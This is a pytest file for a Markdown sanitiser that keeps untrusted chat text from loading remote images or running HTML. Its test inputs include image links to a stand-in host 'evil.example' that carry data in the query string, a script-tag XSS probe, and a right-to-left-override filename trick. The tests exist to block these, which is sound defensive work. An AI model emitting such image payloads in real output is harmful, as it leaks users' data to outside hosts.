"""atom_core.render: untrusted Markdown keeps its meaning but loads nothing."""

from __future__ import annotations

import textwrap

import pytest
from markdown_it import MarkdownIt

from atom_core.render import image_hosts, plain_label, safe_markdown

EVIL = "http://evil.example"


def parsed(text: str) -> list[tuple[str, str]]:
    """(type, src-or-href) for every image, link and raw HTML token CommonMark sees."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    out: list[tuple[str, str]] = []

    def walk(tokens: list) -> None:  # type: ignore[type-arg]
        for t in tokens:
            if t.type == "image":
                out.append(("image", str(t.attrGet("src"))))
            elif t.type == "link_open":
                out.append(("link", str(t.attrGet("href"))))
            elif t.type in ("html_inline", "html_block"):
                out.append(("html", t.content))
            walk(t.children or [])

    walk(md.parse(text))
    return out


def assert_no_fetch(text: str) -> str:
    out = safe_markdown(text)
    kinds = [k for k, _ in parsed(out)]
    assert "image" not in kinds and "html" not in kinds, out
    return out


@pytest.mark.parametrize("text", [
    f"hi ![cat]({EVIL}/x.png?q=secret) there",
    f"ref ![cat][r]\n\n[r]: {EVIL}/r.png",
    f"collapsed ![cat][]\n\n[cat]: {EVIL}/r.png",
    f"shortcut ![cat]\n\n[cat]: {EVIL}/r.png",
    f"> quote ![q]({EVIL}/q.png)\n> more ![q2]({EVIL}/q2.png\n> )",
    f"- item\n  ![li]({EVIL}/li.png)\n1. 1 ![n]({EVIL}/n.png)",
    f"| a | b |\n|---|---|\n| ![t]({EVIL}/t.png) | ![t]({EVIL}/t.png) |",
    f"# head ![h]({EVIL}/h.png) #",
    f"Setext ![s]({EVIL}/s.png)\n===",
    f"\\\\![after an escaped backslash]({EVIL}/y.png)",
    f"![outer ![inner]({EVIL}/a.png)]({EVIL}/o.png)",
    f"**![bold]({EVIL}/b.png)** and ~~![s]({EVIL}/s.png)~~",
    f":red[![c]({EVIL}/c.png)] $x$",
])
def test_markdown_images_become_links_to_the_same_url(text: str) -> None:
    out = assert_no_fetch(text)
    links = [href for kind, href in parsed(out) if kind == "link"]
    assert links and all(h.startswith(EVIL) for h in links)
    assert "evil.example" in out.replace("\\", "")  # the host is shown


def test_the_link_shows_alt_text_and_host() -> None:
    out = safe_markdown(f"![a cat]({EVIL}/x.png)")
    assert out == f"[🖼 a cat (image from evil.example)]({EVIL}/x.png)"


def test_autolinks_to_images_stay_links() -> None:
    text = f"<{EVIL}/a.png> and {EVIL}/b.png"
    assert assert_no_fetch(text) == text
    assert ("link", f"{EVIL}/a.png") in parsed(text)


@pytest.mark.parametrize(("text", "src"), [
    (f'inline <img src="{EVIL}/h.png" alt="pic"> end', f"{EVIL}/h.png"),
    (f'<img src="{EVIL}/block.png">\n\nnext', f"{EVIL}/block.png"),
    (f"<IMG SRC={EVIL}/upper.png>", f"{EVIL}/upper.png"),
    (f'<p>para <img src="{EVIL}/in-p.png"/></p>', f"{EVIL}/in-p.png"),
])
def test_raw_html_images_become_links(text: str, src: str) -> None:
    out = assert_no_fetch(text)
    assert [h for k, h in parsed(out) if k == "link"] == [src]


def test_other_raw_html_shows_as_text() -> None:
    out = assert_no_fetch("<script>alert(1)</script> and <b>bold</b>")
    assert "<script" not in out and "&lt;script>" in out


def test_markdown_inside_an_html_block_is_checked_too() -> None:
    out = assert_no_fetch(f"<div>\n![x]({EVIL}/inside-div.png)\n</div>")
    assert ("link", f"{EVIL}/inside-div.png") in parsed(out)


def test_an_image_inside_a_link_becomes_words_and_the_link_stays() -> None:
    out = assert_no_fetch(f"[![badge]({EVIL}/in.png)](http://ok.example/page)")
    assert [h for k, h in parsed(out) if k == "link"] == ["http://ok.example/page"]
    assert "badge" in out


def test_code_spans_and_blocks_are_left_alone() -> None:
    text = (f"code `![x]({EVIL}/c.png)` and `<img src=x>`\n\n```\n![x]({EVIL}/f.png)\n"
            f"<img src={EVIL}/f2.png>\n```\n\n    <img src={EVIL}/i.png>\n")
    assert safe_markdown(text) == text


def test_an_image_in_indented_code_is_escaped_since_streamlit_dedents() -> None:
    """Streamlit dedents and strips what it is given (clean_text): `    ![x](u)` first in a
    text is an indented code block to markdown-it and an image in the browser (the fuzzer's
    find). Indented code shows `&#33;[` literally: a small price, fenced code is untouched."""
    text = f"    ![n]({EVIL}/i.png)\n"
    out = safe_markdown(text)
    assert gfm_images(textwrap.dedent(out).strip()) == [], out


def test_plain_markdown_is_unchanged() -> None:
    text = ("# Title\n\n**bold** *it* `code` [link](http://ok.example) 1 < 2!\n\n- a\n- b\n\n"
            "| x |\n|---|\n| 1 |")
    assert safe_markdown(text) == text


def test_data_and_relative_images_become_words_or_local_links() -> None:
    out = assert_no_fetch("![x](data:image/png;base64,AAAA) ![y](/_stcore/health)")
    assert [h for k, h in parsed(out) if k == "link"] == ["/_stcore/health"]


def test_half_streamed_image_is_safe_at_every_length() -> None:
    text = f"Look: ![cat]({EVIL}/x.png) and <img src='{EVIL}/y.png'> done"
    for n in range(len(text) + 1):
        assert_no_fetch(text[:n])


def test_show_images_from_a_host_the_user_allowed() -> None:
    text = f"![a]({EVIL}/a.png) ![b](http://other.example/b.png)"
    out = safe_markdown(text, show_images_from=["evil.example"])
    assert [k for k, _ in parsed(out)] == ["image", "link"]
    assert image_hosts(text) == ["evil.example", "other.example"]


def test_plain_label_shows_text_literally() -> None:
    label = plain_label(f"My ![x]({EVIL}/t.png) <b>*chat*</b>\nsecond line")
    assert parsed(label) == []
    assert "image" not in str(MarkdownIt().parse(label))
    rendered = MarkdownIt().renderInline(label)
    assert rendered == ("My ![x](http://evil.example/t.png) &lt;b&gt;*chat*&lt;/b&gt; "
                        "second line")


def gfm_images(text: str) -> list[str]:
    """The src of every image GFM (with footnotes, as the browser reads it) would draw."""
    from mdit_py_plugins.footnote import footnote_plugin
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(footnote_plugin)
    out: list[str] = []

    def walk(tokens: list) -> None:  # type: ignore[type-arg]
        for t in tokens:
            if t.type == "image":
                out.append(str(t.attrGet("src")))
            walk(t.children or [])

    walk(md.parse(text))
    return out


@pytest.mark.parametrize("text", [
    f"x[^1]\n\n[^1]: ![f]({EVIL}/fn.png)\n",
    f"x[^n]\n\n[^n]: words\n    ![second line]({EVIL}/fn2.png)\n",
    f"x[^n]\n\n[^n]: first paragraph\n\n    ![later paragraph]({EVIL}/fn3.png)\n",
    f"> x[^q]\n>\n> [^q]: ![in a quote]({EVIL}/fn4.png)\n",
    f"x[^1]\n\n[^1]: ![r][ref]\n\n[ref]: {EVIL}/fn5.png\n",
])
def test_footnote_definitions_holding_images_become_links(text: str) -> None:
    """Issue 23 §1: CommonMark reads `[^1]: ![f](u)` as a link reference definition (no image);
    the browser's GFM draws a footnote holding a real image."""
    assert gfm_images(text), "the case must hold an image as GFM reads it"
    out = safe_markdown(text)
    assert gfm_images(out) == [], out
    assert "image from evil.example" in out


@pytest.mark.parametrize("text", [
    "an unclosed ![image (never a link",
    "![x]",
    "![a][b] with no definition",
    f"$![math]({EVIL}/m.png)$ and :red[![c]({EVIL}/c.png)]",
])
def test_no_image_syntax_survives_outside_code(text: str) -> None:
    """Whatever one parser makes of a `![` that another might read as an image, none is left
    outside code; the text still reads the same (`&#33;` draws as `!`)."""
    out = safe_markdown(text)
    assert "![" not in out, out


def test_image_syntax_inside_code_is_left_alone_next_to_an_escaped_one() -> None:
    text = "`![a](u)` then ![b]\n\n```\n![c](u)\n```\n"
    assert safe_markdown(text) == "`![a](u)` then &#33;[b]\n\n```\n![c](u)\n```\n"


def test_plain_label_drops_bidi_overrides_that_reverse_a_title() -> None:
    """Issue 23: 'Invoice \u202egpj.exe' showed as 'Invoice exe.jpg' in the chat list."""
    label = plain_label("Invoice \u202egpj.exe \u2067isolated\u2069 \u202bembedded\u202c")
    assert not set(label) & {chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]}
    assert label == "Invoice gpj.exe isolated embedded"
